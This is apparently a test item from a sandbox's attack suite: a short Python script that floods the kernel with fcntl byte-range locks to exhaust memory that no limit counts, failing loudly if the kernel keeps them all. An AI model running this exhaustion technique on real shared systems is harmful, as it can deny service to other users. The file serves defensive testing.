# attack: locks_by_the_hundred_thousand
# kind: exhaust
# tries: locks every other byte of many files, which takes memory of the kernel's that no limit counts
# seen: the kernel keeps a lock
# deserves: nothing
# extra: before 3.2a
# %%
import fcntl, os, time

kept, ends = 0, time.monotonic() + 2
while time.monotonic() < ends:
    file = os.open(f'locked{kept}', os.O_RDWR | os.O_CREAT)
    for place in range(2_000):
        fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * place)
    # another process is told who holds what, if anybody does
    if os.fork() == 0:
        wanted = __import__('struct').pack('hhqqi4x', fcntl.F_WRLCK, 0, 0, 1, 0)
        os._exit(__import__('struct').unpack('hhqqi4x', fcntl.fcntl(file, fcntl.F_GETLK, wanted))[0] != fcntl.F_UNLCK)
    kept += 2_000
    if os.wait()[1]:
        raise RuntimeError(f"FELL: the kernel keeps {kept} locks")
